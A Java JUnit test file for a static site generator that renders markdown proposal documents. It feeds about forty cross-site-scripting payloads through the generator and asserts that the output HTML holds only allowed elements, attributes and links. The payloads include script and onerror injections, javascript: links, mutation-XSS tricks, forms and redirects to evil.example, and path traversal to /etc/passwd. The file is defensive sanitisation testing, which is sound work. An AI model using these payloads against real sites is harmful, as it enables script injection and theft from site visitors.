package io.github.proposals.model.site;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonParser;
import io.github.proposals.model.history.History;
import io.github.proposals.model.site.page.SiteOptions;
import io.github.proposals.model.text.SourceTree;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What strangers write does nothing but be read. */
class SiteAttackTest {

    private static final Set<String> ELEMENTS = Set.of(
            ("html head meta title link body a abbr b blockquote br caption cite code dd del details dfn div dl dt em "
                            + "h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small span strong sub summary sup "
                            + "table tbody td tfoot th thead tr u ul var wbr "
                            + "math msup mi mn mo mrow mtext mspace "
                            + "header footer main nav section article time figure figcaption img script")
                    .split(" "));

    private static final Set<String> ATTRIBUTES = Set.of(
            ("href id class title lang dir colspan rowspan start reversed open datetime rel type charset content name "
                            + "http-equiv aria-label aria-labelledby aria-current role scope tabindex src alt width height "
                            + "loading defer property display")
                    .split(" "));

    /** What our own search and the tables that it knows consist of. */
    private static final String SEARCH =
            "form[id=page:filters], [id=page:none], [id=page:more], [id=page:groups], .registry > .scroll, .theme, .ask";

    private static final Set<String> SEARCH_ELEMENTS = Set.of("form input select option button output".split(" "));

    private static final Set<String> SEARCH_ATTRIBUTES = Set.of(
            ("hidden autocomplete maxlength placeholder aria-keyshortcuts aria-hidden aria-live aria-expanded aria-controls spellcheck for value action "
                            + "data-column data-id data-kind data-people")
                    .split(" "));

    /** What our own drawings consist of. */
    private static final Set<String> DRAWN_ELEMENTS = Set.of("svg title desc g rect path circle text a".split(" "));

    private static final Set<String> DRAWN_ATTRIBUTES = Set.of(
            ("id class viewbox preserveaspectratio role aria-current aria-label aria-labelledby aria-hidden href x y width height rx "
                            + "cx cy r d text-anchor data-name data-ends")
                    .split(" "));

    /** The classes that a text may have, ours and those that its author may use. */
    private static final Set<String> OURS = Set.of(
            ("task-list-item footnotes footnote-ref footnote-backref admonition admonition-title note tip important "
                            + "warning caution formula left center right heading permalink scroll diagram language-mermaid language-math "
                            + "language-js")
                    .split(" "));

    static List<String> payloads() {
        return List.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
                "<form action=https://evil.example><input name=q><button>Go</button></form>",
                "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
                "<p style='position:fixed;inset:0' id=page:main class='skip banner'>over all</p>",
                "<a href='java&#x09;script:alert(1)'>x</a><a href=' JaVaScRiPt:alert(1)'>x</a>",
                "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
                "[x](vbscript:x) ![y](javascript:alert(1)) [z](//evil.example) [w](\\\\evil.example/x)",
                "[x](../../../../etc/passwd) [y](file:///etc/passwd) ![z](https://evil.example/pixel.png)",
                "\"'><script>alert(1)</script>",
                "\" onmouseover=\"alert(1)",
                "`</code><script>alert(1)</script>`",
                "{{frame}} {{{frame}}} {{=<% %>=}} <% frame %>",
                "<title></title></head><body onload=alert(1)>",
                "-->\u0000<!--<script>alert(1)</script>",
                "<div class='diagram drawn admonition fields bar top contents permalink heading scroll register'>x</div>",
                "<figure class=diagram><pre tabindex=9><code class=language-mermaid onclick=alert(1)>x</code></pre></figure>",
                "<pre><code class='language-js hljs'><script>alert(1)</script><img src=x onerror=alert(1)></code></pre>",
                "<h2 id=page:main>x</h2><h2 id='x y'>x</h2><a id=Page:Search name=page:filters>x</a>",
                "{ref}`<script>alert(1)</script>` {doc}`javascript:alert(1)//` {download}`x <javascript:alert(1)>`",
                "{doc}`x <https://evil.example/x>` {kbd}`\"><img src=x onerror=alert(1)>` {ref}`x <page:main>`",
                "(page:main)=\n\n(\"onmouseover=alert(1))=\n\n(x)=<img src=x onerror=alert(1)>",
                "```{image} javascript:alert(1)\n:alt: \"><script>alert(1)</script>\n:width: 9\" onload=\"alert(1)\n```",
                "```{figure} https://evil.example/x.png\n<script>alert(1)</script>\n```",
                "```{toctree}\nx <javascript:alert(1)>\n\"><script>alert(1)</script>\n```",
                "```{admonition} <script>alert(1)</script>\n:class: page:main banner\n<img src=x onerror=alert(1)>\n```",
                ":::{note} <svg onload=alert(1)>\n</div></div><script>alert(1)</script>\n:::",
                "```{raw} html\n<script>alert(1)</script>\n```",
                "```{code-block} \"><script>alert(1)</script>\nx\n```",
                "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
                "![x\" onerror=\"alert(1)](a.svg \"y\" onload=\"alert(1)\") <img src=a.svg srcset=//evil.example width=100%>",
                "```mermaid\nflowchart TD\n  a[<img src=x onerror=alert(1)>]\n</code></pre><script>alert(1)</script>\n```",
                "$\\href{javascript:alert(1)}{x}$ $`</span><script>alert(1)</script>`$ $\\text{<img src=x onerror=alert(1)>}$ $x^2$",
                "```math\n</code></pre><script>alert(1)</script> \\url{javascript:alert(1)}\n```\n\n<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
                "js\n: <script>alert(1)</script>\n: [y](javascript:alert(1)) www.evil.example\"onmouseover=alert(1) a@b.example\"><script>alert(1)</script>",
                "[x]: javascript:alert(1) [x] [^1]: <img src=x onerror=alert(1)>",
                "<a id=cookie name=cookie href='https://example.org' target=_top download ping=https://evil.example>x</a>");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingOfAnAttackIsLeft(String payload) {
        Map<String, String> pages = pages(files(payload), Sites.PUBLISHED);
        assertEquals(
                10,
                pages.keySet().stream()
                        .filter(it -> !it.matches("(?:rule|by)-.*"))
                        .count(),
                () -> pages.keySet().toString());
        check(pages);
    }

    @Test
    void nothingOfAllAttacksTogetherIsLeft() {
        Map<String, String> files = new LinkedHashMap<>();
        for (String payload : payloads()) {
            String number = "%03d".formatted(files.size() + 1);
            files(payload).forEach((path, text) -> files.put(path.replace("001", number), text.replace("001", number)));
        }
        for (SiteOptions options : List.of(Sites.PLAIN, Sites.WITH_SOURCE, Sites.PUBLISHED, Sites.ON_GITHUB)) {
            Map<String, String> pages = pages(files, options);
            assertTrue(
                    pages.size() > 3 * payloads().size(), () -> pages.keySet().toString());
            check(pages);
        }
    }

    private static Map<String, String> pages(Map<String, String> files, SiteOptions options) {
        return Sites.pages(Sites.site("jumpstarter-jep", SourceTree.of("jeps", files), History.none(), options));
    }

    private static void check(Map<String, String> pages) {
        pages.forEach((path, text) -> {
            assertTrue(path.matches("[A-Za-z0-9][A-Za-z0-9._-]*"), path);
            if (path.endsWith(".html") && !path.startsWith("rule-")) {
                assertEquals(List.of(), problems(Jsoup.parse(text)), () -> path + "\n" + text);
            }
        });
    }

    @Test
    void aFileNameIsNoPath() {
        Map<String, String> files = Map.of(
                "jeps/JEP-0010-\"><script>alert(1).md", "# JEP-0010: One\n",
                "jeps/JEP-0010-..%2f..%2fx.md", "# JEP-0010: Two\n");
        Map<String, String> pages = Sites.withoutRules(
                Sites.site("jumpstarter-jep", SourceTree.of("jeps", files), History.none(), Sites.WITH_SOURCE));
        assertEquals(9, pages.size(), "with the page that asks which");
        pages.forEach((path, text) -> {
            assertTrue(path.matches("[A-Za-z0-9][A-Za-z0-9._-]*"), path);
            assertEquals(List.of(), path.endsWith(".html") ? problems(Jsoup.parse(text)) : List.of());
        });
    }

    private static Map<String, String> files(String payload) {
        String cell = payload.replace("|", "\\|").replace("\n", " ");
        Map<String, String> files = new LinkedHashMap<>();
        files.put("jeps/JEP-0010-a.md", """
                # JEP-0010: %1$s

                | Field | Value |
                |---|---|
                | **JEP** | 0010 |
                | **Title** | %1$s |
                | **Author(s)** | %1$s, @ada%1$s |
                | **Status** | %1$s |
                | **Type** | %1$s |
                | **Created** | %1$s |
                | **Discussion** | %1$s |
                | **Requires** | JEP-0011 %1$s |
                | **%1$s** | %1$s |

                ## %1$s

                %2$s

                - %2$s

                ```%1$s
                %2$s
                ```

                [text](%1$s "%1$s") <a href="%1$s">x</a> <a href='%1$s' title='%1$s'>x</a>

                <div>

                %2$s

                | a |
                |---|
                | %1$s |
                """.formatted(cell, payload));
        files.put("jeps/a.svg", "<svg onload='alert(1)'><rect/>" + payload + "</svg>");
        files.put("jeps/JEP-0011-b.md", "---\nstatus: " + payload + "\nauthors: '" + payload + "'\n---\n" + payload);
        files.put("jeps/JEP-0012-c.md", payload + "\n\n# JEP-0012: " + payload + "\n\n" + payload + "\n====\n");
        return files;
    }

    private static List<String> problems(Document page) {
        List<String> problems = new ArrayList<>();
        for (Element element : page.getAllElements()) {
            String name = element.normalName();
            boolean drawn = element.closest("svg") != null && element.closest(".text, .fields") == null;
            boolean search = element.closest(SEARCH) != null && element.closest(".text, .fields") == null;
            boolean script = name.equals("script")
                    && element.parent().nameIs("head")
                    && element.attr("src").matches("/?scripts/[a-z.]+\\.js")
                    && element.html().isEmpty();
            boolean data = name.equals("script")
                    && element.attr("type").equals("application/ld+json")
                    && element.parent().nameIs("head")
                    && !element.data().contains("<")
                    && JsonParser.parseString(element.data()).isJsonObject();
            if (!name.equals("#root")
                    && !script
                    && !(search && SEARCH_ELEMENTS.contains(name))
                    && !(drawn ? DRAWN_ELEMENTS : ELEMENTS).contains(name)) {
                problems.add("element " + name);
            }
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                boolean expected = (drawn ? DRAWN_ATTRIBUTES : ATTRIBUTES).contains(key)
                        || search && SEARCH_ATTRIBUTES.contains(key)
                        || script && Set.of("src", "defer").contains(key);
                if (!expected) {
                    problems.add("attribute " + attribute);
                }
            }
            String href = element.attr("href").toLowerCase(Locale.ROOT);
            if (!href.matches("|#.*|(https?://|mailto:)[^/].*|/?[a-z0-9._-]+(#.*)?|images/a-[0-9a-f]{16}[.]svg")) {
                problems.add("link to " + href);
            }
            if (data) {
                continue;
            }
            if (!element.attr("src").matches("|images/a-[0-9a-f]{16}\\.svg|/?scripts/[a-z.]+\\.js")
                    || element.nameIs("script")
                            && (!element.parent().nameIs("head")
                                    || !element.data().isEmpty())) {
                problems.add("loads " + element);
            }
            if (!OURS.containsAll(element.classNames())
                    && element.closest(".text") != null
                    && !element.hasClass("text")) {
                problems.add("class " + element.className());
            }
            if (element.id().startsWith("page:") && element.closest(".text") != null) {
                problems.add("id " + element.id());
            }
        }
        boolean shared = !page.select("link[rel=canonical]").isEmpty();
        if (page.getElementsByTag("meta").size() != (shared ? 11 : 6)
                || page.getElementsByTag("link").size() != (shared ? 6 : 5)) {
            problems.add("something more in the head");
        }
        return problems;
    }
}
